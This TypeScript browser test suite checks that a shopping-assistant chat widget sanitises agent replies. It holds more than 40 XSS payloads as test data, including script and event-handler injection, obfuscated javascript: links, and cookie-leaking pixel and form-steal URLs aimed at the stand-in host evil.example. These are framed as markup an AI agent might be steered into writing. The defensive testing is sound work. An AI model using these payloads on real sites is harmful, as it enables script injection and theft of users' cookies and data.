/**
 * Hostile replies through the real pipeline: the simulator sends each payload,
 * the proxy relays it, the widget renders it in Chromium. A sentinel proves that
 * nothing ran, nothing loaded from a host the store did not allow, and nothing
 * but allow-listed elements and attributes reached the DOM — live, and again
 * when the same conversation is restored from history.
 */
import { expect, fixture, html, waitUntil } from '@open-wc/testing';
import '../../src/index.js';
import type { TotebotChat } from '../../src/totebot-chat.js';
import { clearAllSessions } from '../../src/storage/session-store.js';
import type { ReplyStep } from '../../proxy/simulator/agent.js';
import { scriptNextReply } from '../support/simulator-script.js';

declare global {
  interface Window {
    __pwned?: unknown;
  }
}

const EVIL = 'evil.example';
const ALLOWED_IMAGE_HOST = 'images.store.example';

/** Text payloads: Markdown and HTML the agent might be steered into writing. */
const TEXT_PAYLOADS = [
  '<script>window.__pwned = "script"</script>',
  '<img src="https://evil.example/x.png" onerror="window.__pwned = \'img\'">',
  '<svg/onload=window.__pwned="svg">',
  '<iframe src="javascript:window.__pwned=\'iframe\'"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css); body { display: none }</style>',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/steal"><input name="card"></form>',
  '<a href="javascript:window.__pwned=\'a\'">click</a>',
  '<details open ontoggle="window.__pwned=\'details\'">x</details>',
  '<math><mtext><script>window.__pwned="math"</script></mtext></math>',
  '[click me](javascript:window.__pwned="md-link")',
  '[click me](JAVASCRIPT:window.__pwned="upper")',
  '[click me](java&#x09;script:window.__pwned="entity")',
  '[click me](java\u0000script:window.__pwned="nul")',
  '[click me](\u0001javascript:window.__pwned="ctrl")',
  '[click me](javas\u200bcript:window.__pwned="zwsp")',
  '[click me](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)',
  '[click me](vbscript:msgbox("x"))',
  '[click me](blob:https://evil.example/x)',
  '[click me](file:///etc/passwd)',
  '![pixel](https://evil.example/pixel.gif?c=document.cookie)',
  '![pixel](//evil.example/pixel.gif)',
  '![pixel](http://images.store.example/plain-http.gif)',
  '![x](javascript:window.__pwned="image")',
  '![x" onerror="window.__pwned=1](https://evil.example/q.png)',
  '[![nested](https://evil.example/n.png)](https://evil.example/)',
  'https://evil.example/autolink"onmouseover="window.__pwned=1',
  '**<b onmouseover="window.__pwned=1">bold</b>** and _<i onclick="window.__pwned=1">it</i>_',
  '`<script>window.__pwned="code"</script>`',
  '```html\n<script>window.__pwned="fence"</script>\n<img src=https://evil.example/f.png>\n```',
  '| a | b |\n| --- | --- |\n| <img src=https://evil.example/t.png> | [x](javascript:window.__pwned=1) |',
  '> <script>window.__pwned="quote"</script>\n> [q](javascript:1)',
  '- [ ] <img src=x onerror=window.__pwned=1>\n- [x] done',
  '<!--?lit$123$--><script>window.__pwned="lit-marker"</script>',
  '${window.__pwned="template"} {{constructor.constructor("window.__pwned=1")()}}',
  '\u202eevil.exe\u202c <a href=https://evil.example>rtl</a>',
  `[${'a'.repeat(5000)}](https://evil.example/${'b'.repeat(5000)})`,
  '<img src=x onerror=window.__pwned=1',
  '[unfinished link](https://evil.example/never-closed',
];

/** Payloads in the other places a reply can carry text: chips and errors. */
const EVENT_PAYLOADS: { name: string; steps: ReplyStep[] }[] = [
  {
    name: 'tool call name and arguments',
    steps: [
      { kind: 'tool_call', name: '<img src=https://evil.example/tool.png onerror=window.__pwned=1>', arguments: { q: '<script>window.__pwned=1</script>' } },
      { kind: 'text', text: 'ok' },
    ],
  },
  {
    name: 'action label and data',
    steps: [
      {
        kind: 'action',
        action: '<svg onload=window.__pwned=1>',
        label: '<img src=https://evil.example/label.png onerror=window.__pwned=1>',
        data: { html: '<script>window.__pwned=1</script>' },
        success: false,
      },
      { kind: 'text', text: 'ok' },
    ],
  },
  {
    name: 'add_to_cart label',
    steps: [
      { kind: 'action', action: 'add_to_cart', label: '<a href="javascript:window.__pwned=1">Adding</a>', data: {} },
      { kind: 'text', text: 'ok' },
    ],
  },
  {
    name: 'error message',
    steps: [{ kind: 'error', code: '<script>x</script>', message: '<img src=https://evil.example/err.png onerror=window.__pwned=1>' }],
  },
  {
    name: 'a non-JSON chunk with markup',
    steps: [
      { kind: 'raw', frame: 'event: chunk\ndata: <img src=https://evil.example/raw.png onerror=window.__pwned=1>\n\n' },
      { kind: 'raw', frame: 'event: completed\ndata: {"type":"completed","messageId":"msg_raw"}\n\n' },
    ],
  },
  {
    name: 'an upstream retry/id that would make a browser reconnect',
    steps: [
      { kind: 'raw', frame: 'retry: 1\nid: 1\nevent: chunk\ndata: {"type":"chunk","content":"hello"}\n\n' },
      { kind: 'raw', frame: 'event: completed\ndata: {"type":"completed","messageId":"msg_retry"}\n\n' },
    ],
  },
];

const ALLOWED_TAGS = new Set([
  'DIV', 'SPAN', 'P', 'BR', 'HR', 'H2', 'H3', 'H4', 'H5', 'H6', 'EM', 'STRONG', 'S', 'CODE', 'PRE', 'A', 'UL', 'OL', 'LI',
  'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'BLOCKQUOTE', 'INPUT', 'IMG', 'ARTICLE', 'SECTION', 'HEADER', 'BUTTON',
  'FORM', 'TEXTAREA', 'svg', 'path', 'circle', 'I',
]);

/** Everything the widget's shadow root holds is on the allow-list, and inert. */
function assertInert(element: TotebotChat): void {
  const root = element.shadowRoot!;
  for (const node of root.querySelectorAll('*')) {
    expect(ALLOWED_TAGS.has(node.tagName), `element <${node.tagName}>`).to.equal(true);
    for (const attribute of node.getAttributeNames()) {
      expect(attribute.startsWith('on'), `event handler attribute ${attribute}`).to.equal(false);
      expect(['style', 'srcdoc', 'formaction', 'action'].includes(attribute), `attribute ${attribute}`).to.equal(false);
    }
    if (node instanceof HTMLAnchorElement && node.hasAttribute('href')) {
      expect(['http:', 'https:', 'mailto:', 'tel:']).to.include(new URL(node.href).protocol);
    }
    if (node instanceof HTMLImageElement) {
      const url = new URL(node.src);
      expect(url.protocol).to.equal('https:');
      expect(url.hostname).to.equal(ALLOWED_IMAGE_HOST);
    }
  }
  // Only the widget's own markup may hold forms and inputs: the composer, and disabled task checkboxes.
  expect([...root.querySelectorAll('form')].every((form) => form.classList.contains('composer'))).to.equal(true);
  expect([...root.querySelectorAll('.markdown input')].every((input) => (input as HTMLInputElement).disabled)).to.equal(true);
}

async function assertNothingRan(element: TotebotChat): Promise<void> {
  // Give anything that could fire (error handlers, toggles, loads) the chance to.
  for (const link of element.shadowRoot!.querySelectorAll('a')) link.dispatchEvent(new MouseEvent('mouseover'));
  await new Promise((resolve) => setTimeout(resolve, 30));
  expect(window.__pwned).to.equal(undefined);
  const fetched = performance.getEntriesByType('resource').map((entry) => entry.name);
  expect(fetched.filter((url) => url.includes(EVIL))).to.deep.equal([]);
  assertInert(element);
}

async function chat(): Promise<TotebotChat> {
  return fixture<TotebotChat>(html`<totebot-chat mode="inline" agent-name="Tote" image-hosts=${ALLOWED_IMAGE_HOST}></totebot-chat>`);
}

describe('hostile replies through simulator → proxy → widget', () => {
  beforeEach(async () => {
    await clearAllSessions();
  });

  it(`has at least 40 payloads (${TEXT_PAYLOADS.length + EVENT_PAYLOADS.length})`, () => {
    expect(TEXT_PAYLOADS.length + EVENT_PAYLOADS.length).to.be.at.least(40);
  });

  TEXT_PAYLOADS.forEach((payload, index) => {
    it(`payload ${index + 1} stays inert live and restored: ${JSON.stringify(payload).slice(0, 50)}`, async () => {
      await scriptNextReply([{ kind: 'text', text: `Before. ${payload} After.` }]);
      const first = await chat();
      await first.send('show me something');
      await first.updateComplete;
      const reply = first.shadowRoot!.querySelector('.message.assistant:last-of-type .markdown');
      expect(reply?.textContent).to.contain('Before.');
      await assertNothingRan(first);
      first.remove();

      // The same text, now from GET …/messages on a reload.
      const restored = await chat();
      await waitUntil(() => restored.messages.length === 2, 'history restored');
      await restored.updateComplete;
      await assertNothingRan(restored);
    });
  });

  for (const { name, steps } of EVENT_PAYLOADS) {
    it(`stays inert: ${name}`, async () => {
      await scriptNextReply(steps);
      const element = await chat();
      await element.send('go');
      await element.updateComplete;
      await assertNothingRan(element);
    });
  }

  it('loads an image from an allowed host, with no referrer', async () => {
    await scriptNextReply([{ kind: 'text', text: `![Blue tote](https://${ALLOWED_IMAGE_HOST}/tote.png)` }]);
    const element = await chat();
    await element.send('picture please');
    await element.updateComplete;
    const image = element.shadowRoot!.querySelector<HTMLImageElement>('.markdown img')!;
    expect(image.getAttribute('src')).to.equal(`https://${ALLOWED_IMAGE_HOST}/tote.png`);
    expect(image.alt).to.equal('Blue tote');
    expect(image.referrerPolicy).to.equal('no-referrer');
    expect(image.loading).to.equal('lazy');
  });
});
